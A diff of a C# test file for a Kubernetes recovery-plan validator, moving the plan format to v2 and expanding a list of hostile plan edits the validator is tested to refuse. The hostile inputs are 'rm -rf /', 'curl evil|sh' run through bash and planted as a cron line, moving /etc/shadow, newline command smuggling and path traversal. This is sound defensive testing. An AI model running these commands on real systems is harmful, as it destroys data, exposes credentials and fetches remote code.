@@ -46,28 +46,33 @@ public sealed class PlanJsonTests
     public void The_format_is_versioned_and_readable()
     {
         var json = JsonNode.Parse(PlanJson.Write(SeedPlan()))!;
-        Assert.Equal("kube-recover/v1", (string?)json["apiVersion"]);
+        Assert.Equal("kube-recover/v2", (string?)json["apiVersion"]);
         Assert.Equal("Plan", (string?)json["kind"]);
         Assert.Equal("Contain", (string?)json["phases"]![1]!["kind"]);
         var step = json["phases"]![1]!["steps"]![0]!;
         Assert.Equal("contain/node2/stop-kube-proxy", (string?)step["id"]);
-        Assert.Equal(new JsonArray("systemctl", "stop", "kube-proxy.service").ToJsonString(), step["action"]!["commands"]![1]!.ToJsonString());
+        Assert.Equal("""{"type":"unitStop","unit":"kube-proxy.service"}""", step["action"]!["commands"]![1]!.ToJsonString());
         Assert.Contains("Save `ip addr show`", PlanJson.Write(SeedPlan()), StringComparison.Ordinal);
     }
 
     public static TheoryData<string, string, string> Hostile => new()
     {
         // name, JSON edit (path=value applied to the seed plan), expected part of the message
-        { "a command the planner never makes", "phases.1.steps.0.action.commands.0=[\"rm\",\"-rf\",\"/\"]", "refusing the command `rm -rf /`" },
-        { "a newline inside a word", "phases.1.steps.0.action.commands.0=[\"systemctl\",\"stop\",\"kube-proxy\\ntouch /tmp/x\"]", "control character U+000A" },
-        { "a known program with other arguments", "phases.1.steps.0.action.commands.0=[\"systemctl\",\"stop\",\"sshd\"]", "refusing the command `systemctl stop sshd`" },
-        { "bash with a script of its own", "phases.3.steps.1.verify.probe.command=[\"timeout\",\"5\",\"bash\",\"-c\",\"curl evil|sh\"]", "refusing the command" },
-        { "mv of another file", "phases.1.steps.0.action.commands.0=[\"mv\",\"/etc/shadow\",\"/tmp/shadow\"]", "refusing the command `mv /etc/shadow /tmp/shadow`" },
+        { "a command the planner never makes", "phases.1.steps.0.action.commands.1={\"type\":\"custom\",\"argv\":[\"rm\",\"-rf\",\"/\"]}", "refusing the command `rm -rf /`" },
+        { "a newline inside a word", "phases.1.steps.0.action.commands.1={\"type\":\"unitStop\",\"unit\":\"kube-proxy\\ntouch /tmp/x\"}", "control character U+000A" },
+        { "a known command with another unit", "phases.1.steps.0.action.commands.1={\"type\":\"unitStop\",\"unit\":\"sshd\"}", "'sshd' is not a kube-proxy, kubelet, k3s or rke2 systemd unit name" },
+        { "bash with a script of its own", "phases.3.steps.1.verify.probe.command={\"type\":\"custom\",\"argv\":[\"timeout\",\"5\",\"bash\",\"-c\",\"curl evil|sh\"]}", "refusing the command" },
+        { "a manifest move of another file", "phases.1.steps.0.action.commands.1={\"type\":\"manifestMoveAside\",\"manifest\":\"/etc/shadow\"}", "'/etc/shadow' is not a kube-proxy static pod manifest path" },
+        { "a manifest path that climbs", "phases.1.steps.0.action.commands.1={\"type\":\"manifestMoveBack\",\"manifest\":\"/etc/kubernetes/manifests/../../shadow/kube-proxy.yaml\"}", "is not a kube-proxy static pod manifest path" },
+        { "a stop marker with lines of its own", "phases.1.steps.0.action.commands.0={\"type\":\"stopMarkerWrite\",\"lines\":[\"* * * * * root curl evil|sh\"]}", "stop marker lines must be the kube-recover header" },
+        { "an ipset outside kube-proxy's", "phases.2.steps.0.action.commands.0={\"type\":\"ipsetDel\",\"set\":\"allowlist\",\"entry\":{\"address\":\"10.0.0.211\"}}", "'allowlist' is not a kube-proxy ipset name" },
         { "an unknown node", "phases.1.steps.0.node=\"node9\"", "node 'node9' is not in the inventory" },
-        { "another version", "apiVersion=\"kube-recover/v2\"", "expected 'kube-recover/v1'" },
+        { "another version", "apiVersion=\"kube-recover/v1\"", "expected 'kube-recover/v2'" },
         { "a path in a saved file name", "phases.0.steps.0.action.file=\"../../etc/cron.d/x\"", "not a plain file name" },
         { "an unknown field", "phases.0.steps.0.sudoPassword=\"x\"", "sudoPassword" },
-        { "an unknown operator", "phases.1.steps.0.action.commands.0={\"left\":[\"ip\",\"addr\",\"show\"],\"op\":\"|\",\"right\":[\"sh\"]}", "not a command operator" },
+        { "an unknown command type", "phases.1.steps.0.action.commands.1={\"type\":\"pipe\",\"left\":{\"type\":\"addressList\"},\"right\":{\"type\":\"custom\",\"argv\":[\"sh\"]}}", "pipe" },
+        { "a command without a type", "phases.1.steps.0.action.commands.1={\"unit\":\"kube-proxy.service\"}", "type" },
+        { "a command with a field of its own", "phases.1.steps.0.action.commands.1={\"type\":\"unitStop\",\"unit\":\"kube-proxy.service\",\"then\":\"reboot\"}", "then" },
         { "a duplicate step id", "phases.1.steps.1.id=\"contain/node2/stop-kube-proxy\"", "used twice" },
         { "an endless wait", "phases.6.steps.0.action.duration=\"3.00:00:00\"", "out of range" },
         { "an address that is not one", "intent.addresses.0=\"10.0.0.999\"", "not an IP address" },
